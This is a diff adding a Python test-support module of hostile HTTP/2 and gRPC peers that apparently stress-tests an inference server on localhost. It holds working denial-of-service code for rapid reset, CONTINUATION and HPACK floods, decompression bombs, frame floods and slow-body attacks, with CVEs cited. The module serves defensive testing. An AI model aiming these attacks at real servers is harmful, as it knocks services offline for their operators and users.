@@ -1,0 +1,178 @@
+"""Hostile peers by raw bytes, in a process of their own: `python -m tests.support.attacks NAME PORT`.
+
+Sources: CVE-2023-44487 (rapid reset), CVE-2024-27316 and its like (CONTINUATION), RFC 7541 section 7.3 (HPACK's
+memory), CVE-2019-9511 to 9518 (answers that are not read, floods of PING, SETTINGS and empty frames).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import gzip
+import socket
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+
+INFER = "/inference.GRPCInferenceService/ModelInfer"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+SECONDS = 1.0  # of a flood
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def connect(port: int) -> socket.socket:
+    made = socket.create_connection(("127.0.0.1", port), timeout=10)
+    made.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+    return made
+
+
+def headers(more: list[tuple[str, str]] | None = None, path: str = INFER) -> bytes:
+    """A block of gRPC's headers."""
+    state = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
+    usual = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")]
+    return bytes(
+        state.encoder.encode([*usual, ("content-type", "application/grpc"), ("te", "trailers"), *(more or [])])
+    )
+
+
+def rapid_resets(port: int) -> None:
+    block = headers()
+    end = time.monotonic() + SECONDS
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError), connect(port) as peer:
+            for stream in range(1, 2001, 2):
+                peer.sendall(frame(HEADERS, 4, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8)))
+
+
+def continuations(port: int) -> None:
+    end = time.monotonic() + SECONDS
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError), connect(port) as peer:
+            peer.sendall(frame(HEADERS, 0, 1, headers()))
+            while time.monotonic() < end:
+                peer.sendall(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000) * 8)
+
+
+def hpack_bombs(port: int) -> None:
+    """One large entry of the table, named over and over."""
+    block = headers() + b"\x40\x01a" + b"\x7f" + bytes([3000 - 127 & 0x7F | 0x80, 3000 - 127 >> 7]) + b"x" * 3000
+    for _ in range(20):
+        with contextlib.suppress(OSError), connect(port) as peer:
+            for stream in range(1, 100, 2):
+                peer.sendall(frame(HEADERS, 4, stream, block + b"\xbe" * 10_000))
+
+
+def half_prefaces(port: int) -> None:
+    peers = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(200)]
+    for peer in peers:
+        peer.sendall(PREFACE[:10])
+    time.sleep(SECONDS)
+    for peer in peers:
+        peer.close()
+
+
+def bodiless(port: int) -> None:
+    block = headers()
+    peers = [connect(port) for _ in range(10)]
+    for peer in peers:
+        peer.sendall(b"".join(frame(HEADERS, 4, stream, block) for stream in range(1, 200, 2)))
+    time.sleep(SECONDS)
+    for peer in peers:
+        peer.close()
+
+
+def bombs(port: int) -> None:
+    """300 MB in 300 kB."""
+    packed = gzip.compress(bytes(300 * 2**20), 9)
+    message = b"\x01" + struct.pack(">I", len(packed)) + packed
+    for _ in range(5):
+        with contextlib.suppress(OSError), connect(port) as peer:
+            peer.sendall(frame(HEADERS, 4, 1, headers([("grpc-encoding", "gzip")])))
+            for at in range(0, len(message), 16384):
+                part = message[at : at + 16384]
+                peer.sendall(frame(DATA, int(at + 16384 >= len(message)), 1, part))
+            peer.recv(65536)
+
+
+def flood(port: int, first: bytes, more: bytes) -> None:
+    """The same frames over and over; what comes back is not read."""
+    end = time.monotonic() + SECONDS
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError), connect(port) as peer:
+            peer.settimeout(SECONDS)
+            peer.sendall(first)
+            while time.monotonic() < end:
+                peer.sendall(more)
+
+
+def pings(port: int) -> None:
+    flood(port, b"", frame(PING, 0, 0, b"12345678") * 500)
+
+
+def settings(port: int) -> None:
+    flood(port, b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500)
+
+
+def empty_frames(port: int) -> None:
+    flood(port, frame(HEADERS, 4, 1, headers()), frame(DATA, 0, 1, b"") * 500)
+
+
+def priorities(port: int) -> None:
+    flood(port, b"", b"".join(frame(PRIORITY, 0, at, struct.pack(">IB", at - 2, 1)) for at in range(3, 1001, 2)))
+
+
+def windows(port: int) -> None:
+    """Steps of one byte, and one beyond what a window may be."""
+    flood(port, frame(HEADERS, 4, 1, headers()), frame(WINDOW, 0, 1, struct.pack(">I", 1)) * 500)
+    with contextlib.suppress(OSError), connect(port) as peer:
+        peer.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * 2)
+        peer.recv(65536)
+
+
+def unread(port: int) -> None:
+    """Answers without a window to be sent in."""
+    block, body = headers(), request()
+    with contextlib.ExitStack() as held:
+        for _ in range(10):
+            peer = held.enter_context(connect(port))
+            peer.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+            for stream in range(1, 200, 2):
+                peer.sendall(frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, body))
+        time.sleep(SECONDS)
+
+
+def dribbles(port: int) -> None:
+    """Bodies that come a byte at a time."""
+    block, body = headers(), request()
+    with contextlib.ExitStack() as held:
+        peers = [held.enter_context(connect(port)) for _ in range(10)]
+        for peer in peers:
+            peer.sendall(b"".join(frame(HEADERS, 4, stream, block) for stream in range(1, 100, 2)))
+        for at in range(20):
+            for peer in peers:
+                peer.sendall(b"".join(frame(DATA, 0, stream, body[at : at + 1]) for stream in range(1, 100, 2)))
+            time.sleep(SECONDS / 20)
+
+
+def request() -> bytes:
+    """A ModelInfer of 20 rows for tests.support.toy_model, framed, as bytes of its fields."""
+    raw = bytes(20 * 3 * 4)
+    tensor = b"\x0a\x01x" + b"\x12\x04FP32" + b"\x1a\x02\x14\x03"
+    message = b"\x0a\x03toy" + b"\x2a" + bytes([len(tensor)]) + tensor + b"\x3a\xf0\x01" + raw
+    return b"\x00" + struct.pack(">I", len(message)) + message
+
+
+ATTACKS = (
+    *(rapid_resets, continuations, hpack_bombs, half_prefaces, bodiless, bombs),
+    *(pings, settings, empty_frames, priorities, windows, unread, dribbles),
+)
+NAMES = tuple(attack.__name__ for attack in ATTACKS)
+
+if __name__ == "__main__":
+    ATTACKS[NAMES.index(sys.argv[1])](int(sys.argv[2]))
